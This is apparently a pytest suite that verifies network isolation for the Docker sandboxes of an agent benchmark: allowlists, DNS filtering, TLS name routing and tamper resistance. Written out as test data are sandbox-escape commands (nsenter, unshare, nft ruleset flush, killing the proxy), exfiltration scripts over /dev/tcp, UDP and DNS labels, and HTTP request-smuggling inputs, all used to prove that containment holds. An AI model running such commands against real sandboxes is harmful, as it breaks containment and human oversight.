"""Networks of phases, and of some hosts only: what comes through, and that nobody inside can change it."""

from __future__ import annotations

import asyncio
import contextlib
import json
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
from pathlib import Path
from typing import Any

import pytest
from filled_copies import filled_copy
from internet import HERE, NEAR, THERE, Internet, internet
from run_plans import sandboxes_of

from tbench.errors import TrialError
from tbench.sandbox.backend import BUSYBOX, Sandbox, SandboxSettings, open_backend
from tbench.sandbox.docker.backend import DockerBackend
from tbench.sandbox.docker.container import Container
from tbench.sandbox.docker.engine import Engine
from tbench.sandbox.docker.router import rules
from tbench.sandbox.owner import LABEL_RUN, NETWORK
from tbench.tasks.environment import agent_environment
from tbench.tasks.network import NetworkPolicy
from tbench.tasks.task import Task

HOSTS = ("allowed.example", "*.wild.example")
PUBLIC, CLOSED = NetworkPolicy(), NetworkPolicy("no-network")
ALLOWLIST = NetworkPolicy("allowlist", HOSTS)
TOML = """[environment]
memory_mb = 256
docker_image = "debian:bookworm-slim"
network_mode = "{}"
allowed_hosts = {}
[agent]
network_mode = "{}"
"""
Start = Callable[..., Coroutine[Any, Any, Container]]
# A TLS client in the trial's network: which name it says is not that of whom it connects to.
TLS_CLIENT = """import socket, ssl, sys
address, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3] or None
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
try:
    with context.wrap_socket(socket.create_connection((address, port), 10), server_hostname=name) as stream:
        stream.sendall(b"GET /tls HTTP/1.1\\r\\nHost: inner.example\\r\\nConnection: close\\r\\n\\r\\n")
        print(stream.makefile().read().splitlines()[-1])
except OSError as error:
    print("refused")
"""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    with internet(tmp_path_factory.mktemp("internet")) as made:
        yield made


async def started(engine: Engine, world: Internet, path: Path, **options: Any) -> Container:
    backend = DockerBackend(
        engine, sandboxes_of(f"test-{uuid.uuid4().hex[:12]}", **options), name_servers=(world.name_server,)
    )
    async with open_backend(backend):
        return await backend.sandbox(agent_environment(Task.read(path)), "t.s0.x")


@pytest.fixture
async def start(engine: Engine, tools_volume: str, make_task: Any, world: Internet) -> AsyncIterator[Start]:
    all_of_them: list[Container] = []

    async def one(policy: NetworkPolicy = PUBLIC, agent: str = "no-network", **options: Any) -> Container:
        path = make_task(toml=TOML.format(policy.mode, json.dumps(policy.hosts), agent))
        all_of_them.append(await started(engine, world, path, **options))
        return all_of_them[-1]

    yield one
    await asyncio.gather(*(sandbox.remove() for sandbox in all_of_them))


@pytest.fixture(scope="module")
def allowing(engine: Engine, tools_volume: str, world: Internet, tmp_path_factory: Any) -> Iterator[Container]:
    """A sandbox with an allowlist for all the tests that change nothing of it."""
    path = tmp_path_factory.mktemp("tasks")
    for name in ("instruction.md", "tests/test.sh"):
        (path / name).parent.mkdir(exist_ok=True)
        (path / name).touch()
    (path / "task.toml").write_text(TOML.format("allowlist", json.dumps(HOSTS), "allowlist"))
    sandbox = asyncio.run(started(engine, world, path))
    yield sandbox
    asyncio.run(sandbox.remove())


async def said(sandbox: Sandbox, script: str) -> str:
    return (await sandbox.shell(script, timeout_sec=60)).output.decode()


async def fetched(
    sandbox: Sandbox, host: str, at: str = "", port: int = 80, target: str = "/", more: str = "", sec: int = 10
) -> str:
    """The last line of what a server says to a request for `host`, wherever it is sent to."""
    request = f"GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n{more or 'Connection: close'}\\r\\n\\r\\n"
    script = (
        f'exec 2>/dev/null; timeout 10 bash -c \'exec 3<>/dev/tcp/{at or host}/{port} && printf "{request}" >&3 && '
        'while read -t 5 -r line <&3; do last=$line; done; echo "$last"\' || echo refused'
    )
    return (await said(sandbox, script)).strip() or "refused"


async def tls(engine: Engine, sandbox: Container, address: str, name: str, port: int = 443) -> str:
    """Like the function above, but over TLS: a client that runs on this host, in the trial's network."""
    state = await engine.call(engine.api.inspect_container, sandbox.container_id)
    argv = ["nsenter", f"--net=/proc/{state['State']['Pid']}/ns/net", sys.executable, "-c", TLS_CLIENT]
    done = await asyncio.to_thread(
        subprocess.run, [*argv, address, str(port), name], capture_output=True, text=True, timeout=60
    )
    return done.stdout.strip() or done.stderr


async def soon(is_so: Callable[[], object]) -> None:
    for _ in range(400):
        if is_so():
            return
        await asyncio.sleep(0.05)
    pytest.fail("it does not come")


async def looked_up(sandbox: Sandbox, name: str) -> str:
    return (await said(sandbox, f"getent ahostsv4 {name} | head -n 1 | cut -d' ' -f1")).strip()


# -- the rules -----------------------------------------------------------------------------------


def test_rules_name_addresses_once_and_let_nothing_else_through() -> None:
    policy = NetworkPolicy("allowlist", ("a.example", "10.0.0.0/8", "10.1.0.0/16", "192.0.2.7", "2001:db8::/32"))
    assert "ip daddr { 10.0.0.0/8, 192.0.2.7/32 } meta l4proto tcp accept" in rules(policy)
    assert "2001" not in rules(policy) and "a.example" not in rules(policy)
    accepted = [line for line in rules(CLOSED).splitlines() if "accept" in line and "policy" not in line]
    assert len(accepted) == 1 and "ip daddr 192.0.0.1" in accepted[0] and "dport 53" in accepted[0]
    assert "redirect" not in rules(PUBLIC) + rules(CLOSED)
    assert "daddr {" not in rules(NetworkPolicy("allowlist"))
    # Of what came in over connections of an earlier network, neither.
    assert 'oifname "inside"' not in rules(ALLOWLIST) + rules(CLOSED)
    assert 'oifname "inside" ct state established ip saddr { 10.0.0.0/8, 192.0.2.7/32 } accept' in rules(policy)


# -- hosts by name -------------------------------------------------------------------------------


@pytest.mark.engine
async def test_an_allowed_host_is_reached_by_its_name_at_any_port(engine: Engine, allowing: Container) -> None:
    for host in ("allowed.example", "www.wild.example", "a.b.wild.example"):
        assert await looked_up(allowing, host) == HERE
        assert await fetched(allowing, host) == f"{host} at {HERE}:80"
    assert await fetched(allowing, "allowed.example", port=8080) == f"allowed.example at {HERE}:8080"
    assert await tls(engine, allowing, HERE, "allowed.example") == f"inner.example at {HERE}:443"
    assert await tls(engine, allowing, HERE, "www.wild.example", 8443) == f"inner.example at {HERE}:8443"


@pytest.mark.engine
async def test_other_names_do_not_exist_and_no_one_outside_hears_of_them(allowing: Container, world: Internet) -> None:
    before = len(world.heard("names"))
    secret = "secret-" + uuid.uuid4().hex
    for name in ("other.example", "wild.example", "notwild.example", f"{secret}.allowed.example", f"{secret}.example"):
        assert await looked_up(allowing, name) == "", name
    asks = f"{BUSYBOX} timeout 5 {BUSYBOX} nslookup"
    for kind in ("txt", "mx", "any", "aaaa"):  # of an allowed host it has addresses only
        assert "Address" not in (await said(allowing, f"{asks} -type={kind} allowed.example")).partition("\n\n")[2]
    assert "NXDOMAIN" in await said(allowing, f"{asks} -type=txt {secret}.example")
    # A dot within a label, which would pass for the name when both are written out.
    hidden = r"\1\0\0\1\0\0\0\0\0\0\17allowed.example\0\0\1\0\1".replace("\\1\\0\\0\\1", "\\001\\000\\000\\001", 1)
    assert await said(allowing, f"printf 'AA{hidden}' | timeout 3 {BUSYBOX} nc -u 192.0.0.1 53 | wc -c") == "0\n"
    assert not [name for name, _ in world.heard("names")[before:] if secret in name]
    assert {kind for _, kind in world.heard("names")[before:]} <= {1}


@pytest.mark.engine
async def test_a_connection_goes_where_its_name_says_and_not_where_it_was_sent_to(
    engine: Engine, allowing: Container
) -> None:
    assert await fetched(allowing, "allowed.example", at=THERE) == f"allowed.example at {HERE}:80"
    assert await tls(engine, allowing, THERE, "allowed.example") == f"inner.example at {HERE}:443"
    for host in ("other.example", "wild.example", HERE, "192.0.0.1", "allowed.example.other.example"):
        assert await fetched(allowing, host, at=HERE) == "refused", host
    for name in ("other.example", "wild.example", ""):
        assert await tls(engine, allowing, HERE, name) == "refused", name


@pytest.mark.engine
async def test_a_request_that_could_mean_two_hosts_is_refused(allowing: Container) -> None:
    for target, more in (
        ("http://other.example/", ""),
        ("other.example:443", ""),
        ("/", "Host: other.example"),
        ("/", "Host : other.example"),
        ("/", " folded: other.example"),
        ("/", "X: y\\nHost: other.example"),
        ("/", "Content-Length: 1\\r\\nContent-Length: 2"),
        ("/", "Content-Length: 1\\r\\nTransfer-Encoding: chunked"),
        ("/", "Content-Length: -1"),
    ):
        assert await fetched(allowing, "allowed.example", target=target, more=more) == "refused", (target, more)
    assert await fetched(allowing, "allowed.example", more="X: y") == f"allowed.example at {HERE}:80"


@pytest.mark.engine
async def test_a_request_gets_its_body_through_and_no_other_request_behind_it(
    allowing: Container, world: Internet
) -> None:
    """A second one could name another host, and a server of many names would serve that one."""
    mark = uuid.uuid4().hex
    second = f"GET /second-{mark} HTTP/1.1\\r\\nHost: other.example"
    for more in (
        f"Connection: keep-alive\\r\\n\\r\\n{second}",
        f"Content-Length: 32\\r\\nConnection: keep-alive\\r\\n\\r\\n{mark}{second}",
    ):
        assert await fetched(allowing, "allowed.example", more=more) == f"allowed.example at {HERE}:80"
    assert mark in [sent for *_, sent in world.heard("requests")]
    assert "second" not in str(world.heard("requests"))


@pytest.mark.engine
async def test_a_client_that_goes_on_sending_gets_its_answer_all_the_same(allowing: Container) -> None:
    """Whoever closes on unread bytes resets the connection, and the client's next write ends it."""
    request = "GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"
    script = (
        f'exec 3<>/dev/tcp/allowed.example/80; printf "{request}" >&3; sleep 0.5; for i in 1 2 3; do '
        'printf more >&3 || exit 1; sleep 0.1; done; while read -t 5 -r line <&3; do last=$line; done; echo "$last"'
    )
    answer = await said(allowing, f"timeout 10 bash -c '{script}' || echo reset")
    assert answer.strip() == f"allowed.example at {HERE}:80"


@pytest.mark.engine
async def test_an_allowed_name_does_not_lead_to_this_machine_or_to_its_cloud(start: Start, world: Internet) -> None:
    names = ("loopback.example", "router.example", "metadata.example")
    sandbox = await start(NetworkPolicy("allowlist", names), "allowlist")
    for name in names:
        assert await fetched(sandbox, name, at=HERE) == "refused"
        assert [name, 1] in world.heard("names")


@pytest.mark.engine
async def test_hosts_by_address_are_reached_over_tcp_alone(engine: Engine, start: Start, world: Internet) -> None:
    sandbox = await start(NetworkPolicy("allowlist", (f"{HERE}/32", "2001:db8::/32")), "allowlist")
    assert await fetched(sandbox, "any.name", at=HERE, port=8080) == f"any.name at {HERE}:8080"
    assert await tls(engine, sandbox, HERE, "") == f"inner.example at {HERE}:443"
    assert await fetched(sandbox, "any.name", at=THERE) == "refused"
    assert await looked_up(sandbox, "allowed.example") == ""
    word = uuid.uuid4().hex
    await said(sandbox, f"echo {word} > /dev/udp/{HERE}/9999; echo {word} | timeout 1 {BUSYBOX} nc -u {HERE} 9999")
    assert word not in "".join(world.heard("datagrams"))


# -- nobody inside can change it -----------------------------------------------------------------

ATTACKS = (
    f"{BUSYBOX} ip route add 198.18.78.0/24 dev eth0",
    f"{BUSYBOX} ip route replace default dev eth0",
    f"{BUSYBOX} ip addr add 10.99.0.2/24 dev eth0",
    f"{BUSYBOX} ip link set eth0 down",
    f"{BUSYBOX} ip link add dummy0 type dummy",
    "unshare --net true",
    "unshare --user --net true",
    "nsenter --net=/proc/1/ns/net true",
    "/opt/tbench/nft/ld.so --library-path /opt/tbench/nft /opt/tbench/nft/nft flush ruleset",
    "echo 1 > /proc/sys/net/ipv4/ip_forward",
    f"{BUSYBOX} killall proxy",
)


# Past all routes: where the handshake is the proxy's, nobody beyond it hears of what is said.
BOUND = """perl -e 'socket(S, 2, 1, 0); setsockopt(S, 1, 25, "eth0\\0"); alarm 5;
connect(S, pack("Sna4x8", 2, 8080, pack("C4", {bytes}))) and syswrite(S, "GET /{word} HTTP/1.1\\r\\n\\r\\n")'"""


def ways_out(word: str, address: str) -> Iterator[str]:
    """Scripts that try to bring a word out to an address, each in another way."""
    for port in (53, 443, 9999):
        yield f"bash -c 'echo {word} > /dev/udp/{address}/{port}'"
    for port in (22, 80, 443, 8080):
        request = f"GET /{word} HTTP/1.1\\r\\n\\r\\n"
        yield f"timeout 5 bash -c 'exec 3<>/dev/tcp/{address}/{port} && printf \"{request}\" >&3'"
    yield BOUND.format(word=word, bytes=address.replace(".", ","))
    yield f"{BUSYBOX} timeout 2 {BUSYBOX} nslookup {word}.allowed.example {address}"


def rules_in_force(engine: Engine, container_id: str, family: str) -> str:
    nft = ["/opt/tbench/nft/ld.so", "--library-path", "/opt/tbench/nft", "/opt/tbench/nft/nft"]
    looking = engine.api.exec_create(container_id, [*nft, "list", "table", family, "tbench"])
    shown: bytes = engine.api.exec_start(looking["Id"])
    return shown.decode()


def heard(world: Internet, word: str) -> int:
    kinds = ("names", "requests", "hellos", "datagrams")
    return sum(word in str(each) for kind in kinds for each in world.heard(kind))


async def tried(sandbox: Sandbox, word: str, *addresses: str) -> None:
    scripts = (script for address in addresses for script in ways_out(word, address))
    await said(sandbox, "\n".join(f"{script} >/dev/null 2>&1 </dev/null &" for script in scripts) + "\nwait")


@pytest.mark.engine
@pytest.mark.parametrize(
    "policy", [ALLOWLIST, pytest.param(CLOSED, marks=pytest.mark.slow)], ids=["allowlist", "closed"]
)
async def test_root_inside_finds_no_way_out(
    engine: Engine, start: Start, world: Internet, policy: NetworkPolicy
) -> None:
    sandbox = await start(PUBLIC, "no-network", cap_add=("NET_RAW",))
    before, after = uuid.uuid4().hex, uuid.uuid4().hex
    await tried(sandbox, before, HERE, THERE)
    for _ in range(100):  # it comes in by other threads
        if heard(world, before) >= 8:
            break
        await asyncio.sleep(0.05)
    assert heard(world, before) >= 8  # else nothing of it would have been tried below
    await sandbox.use_network(policy)
    for attack in ATTACKS:
        assert (await sandbox.shell(f"{attack} 2>&1", timeout_sec=20)).exit_code != 0, attack
    await tried(sandbox, after, HERE, THERE, "127.0.0.11", "192.0.0.1")
    assert heard(world, after) == 0
    pings = (sandbox.shell(f"{BUSYBOX} ping -c 1 -W 1 {address}", timeout_sec=20) for address in (HERE, NEAR))
    assert all(ended.exit_code != 0 for ended in await asyncio.gather(*pings))
    assert sandbox._router is not None
    assert rules_in_force(engine, sandbox._router.container_id, "ip6").count("drop") >= 2


@pytest.mark.slow
@pytest.mark.engine
async def test_nor_does_who_may_change_the_network_inside(start: Start, world: Internet) -> None:
    sandbox = await start(PUBLIC, "no-network", cap_add=("NET_ADMIN", "NET_RAW"))
    before, after = uuid.uuid4().hex, uuid.uuid4().hex
    await tried(sandbox, before, HERE)
    assert heard(world, before) >= 4
    await sandbox.use_network(ALLOWLIST)
    for change in (
        f"{BUSYBOX} ip route add {THERE}/32 dev eth0",
        f"{BUSYBOX} arp -i eth0 -s {THERE} $({BUSYBOX} cat /sys/class/net/eth0/address)",
        f"{BUSYBOX} ip addr add 198.18.78.9/24 dev eth0",
        f"{BUSYBOX} ip addr add 192.0.0.3/29 dev eth0",
    ):
        assert (await sandbox.shell(f"{change} 2>&1", timeout_sec=20)).exit_code == 0, change
    await tried(sandbox, after, HERE, THERE, "192.0.0.1")
    assert heard(world, after) == 0


@pytest.mark.slow
@pytest.mark.engine
async def test_other_trials_are_out_of_reach_also_behind_a_router(engine: Engine, start: Start) -> None:
    one, other = await asyncio.gather(start(PUBLIC), start(PUBLIC))
    assert other._router is not None
    state = await engine.call(engine.api.inspect_container, other._router.container_id)
    address = state["NetworkSettings"]["Networks"]["tbench"]["IPAddress"]
    looks = (fetched(one, "x", at=address, port=port, sec=2) for port in (53, 12345))
    assert await asyncio.gather(*looks) == ["refused", "refused"]


# -- another network, while processes live ---------------------------------------------------------


@pytest.mark.engine
@pytest.mark.slow
async def test_a_network_is_closed_and_opened_while_processes_live(start: Start, world: Internet) -> None:
    sandbox = await start(CLOSED, "public")
    assert await fetched(sandbox, "x", at=THERE) == "refused"
    assert await looked_up(sandbox, "other.example") == ""
    await sandbox.use_network(PUBLIC)
    assert await looked_up(sandbox, "other.example") == THERE
    assert await fetched(sandbox, "other.example") == f"other.example at {THERE}:80"
    # A connection that is open goes on for as long as its network does.
    speaker = (
        f"bash -c 'exec 3<>/dev/tcp/{THERE}/80; while :; do "
        'printf "GET /{} HTTP/1.1\\r\\nHost: kept\\r\\n\\r\\n" >&3 || exit; read -t 1 -r line <&3; sleep 0.1; done\' '
        ">/dev/null 2>&1 &"
    )

    def spoke(word: str) -> int:
        return sum(f"/{word}" in each[2] for each in world.heard("requests"))

    word = uuid.uuid4().hex
    await said(sandbox, speaker.format(word))
    await soon(lambda: spoke(word))
    for policy in (CLOSED, ALLOWLIST, NetworkPolicy("allowlist", ("kept",))):
        await sandbox.use_network(policy)
        after = spoke(word)
        await asyncio.sleep(0.5)
        assert spoke(word) == after
    await sandbox.use_network(ALLOWLIST)
    assert await fetched(sandbox, "allowed.example") == f"allowed.example at {HERE}:80"


@pytest.mark.engine
async def test_connections_that_were_passed_on_end_with_their_network(start: Start, world: Internet) -> None:
    sandbox = await start(ALLOWLIST, "allowlist")
    request = "GET /slow HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"
    client = f'exec 3<>/dev/tcp/allowed.example/80; printf "{request}" >&3; cat <&3; echo ended'
    ended = asyncio.create_task(said(sandbox, f"timeout 20 bash -c '{client}' 2>/dev/null"))
    await soon(lambda: "GET /slow" in str(world.heard("requests")))
    await sandbox.use_network(NetworkPolicy("allowlist", ("www.wild.example",)))
    assert await ended == "ended\n"


@pytest.mark.slow
@pytest.mark.engine
async def test_the_host_stays_closed_behind_a_router(engine: Engine, start: Start, host_port: int) -> None:
    (network,) = await engine.call(engine.api.networks, names=[f"^{NETWORK}$"])
    gateway = network["IPAM"]["Config"][0]["Gateway"]
    opened_, closed = await asyncio.gather(start(PUBLIC), start(PUBLIC, block_host=True))
    look = f"{BUSYBOX} timeout 2 {BUSYBOX} wget -q -O - http://{gateway}:{host_port}/ 2>/dev/null"
    assert await said(opened_, look) == "reached"
    assert await said(closed, look) == ""
    assert await fetched(closed, "allowed.example") == f"allowed.example at {HERE}:80"
    await closed.use_network(NetworkPolicy("allowlist", (f"{gateway}/32", "allowed.example")))
    assert await said(closed, look) == ""
    assert await fetched(closed, "allowed.example") == f"allowed.example at {HERE}:80"


# -- beside, kept, gone ----------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.engine
async def test_copies_have_the_network_that_is_in_force(start: Start) -> None:
    sandbox = await start(PUBLIC)
    await sandbox.use_network(ALLOWLIST)
    copy, other = await filled_copy(sandbox, [], []), await sandbox.make_fresh()
    original = await sandbox.original()
    try:
        for each in (copy, other):
            assert await fetched(each, "allowed.example") == f"allowed.example at {HERE}:80"
            assert await fetched(each, "other.example", at=THERE) == "refused"
        assert await said(original, "ls /sys/class/net") == "lo\n"
    finally:
        await asyncio.gather(copy.remove(), other.remove())


@pytest.mark.engine
async def test_the_machine_knows_its_own_name(start: Start) -> None:
    sandbox = await start(CLOSED, "public")
    assert await said(sandbox, 'getent hosts "$(hostname)" | cut -d" " -f1') == "192.0.0.2\n"


@pytest.mark.engine
async def test_a_router_goes_with_its_container_and_is_kept_with_it(
    engine: Engine, start: Start, make_task: Any, world: Internet
) -> None:
    sandbox = await start(PUBLIC)
    labels = (await engine.call(engine.api.inspect_container, sandbox.container_id))["Config"]["Labels"]
    of_run = {"label": f"{LABEL_RUN}={labels[LABEL_RUN]}"}
    assert len(await engine.call(engine.api.containers, filters=of_run)) == 2
    kept = await sandbox.keep()
    names = [each["Names"][0] for each in await engine.call(engine.api.containers, filters=of_run)]
    assert all(name.startswith("/tbench-kept-") for name in names)

    backend = DockerBackend(engine, SandboxSettings(labels[LABEL_RUN]))
    async with open_backend(backend):
        task = Task.read(make_task(toml=TOML.format("public", "[]", "no-network")))
        again = await backend.reopen(agent_environment(task), "t.s0.x", kept)
        await again.use_network(CLOSED)
        assert await fetched(again, "x", at=THERE) == "refused"
    await again.remove()
    assert await engine.call(engine.api.containers, all=True, filters=of_run) == []


@pytest.mark.engine
async def test_a_network_that_cannot_be_put_in_force_is_an_error(engine: Engine, start: Start) -> None:
    sandbox = await start(PUBLIC)
    assert sandbox._router is not None
    await engine.call(engine.api.kill, sandbox._router.container_id)
    with pytest.raises(TrialError, match="changing the network of the container failed") as caught:
        await sandbox.use_network(CLOSED)
    assert caught.value.type == "sandbox_failed"
    assert await fetched(sandbox, "x", at=THERE) == "refused"  # and nothing is open without it


@pytest.mark.engine
async def test_a_start_that_is_cancelled_leaves_nothing(
    engine: Engine, tools_volume: str, make_task: Any, world: Internet
) -> None:
    path = make_task(toml=TOML.format("public", "[]", "no-network"))
    run = f"test-{uuid.uuid4().hex[:12]}"
    async with open_backend(DockerBackend(engine, SandboxSettings(run))) as backend:
        for delay_sec in (0.0, 0.1, 0.3, 0.6):
            starting = asyncio.create_task(backend.sandbox(agent_environment(Task.read(path)), "t.s0.x"))
            await asyncio.sleep(delay_sec)
            starting.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await (await starting).remove()
    of_run = {"label": f"{LABEL_RUN}={run}"}
    assert await engine.call(engine.api.containers, all=True, filters=of_run) == []
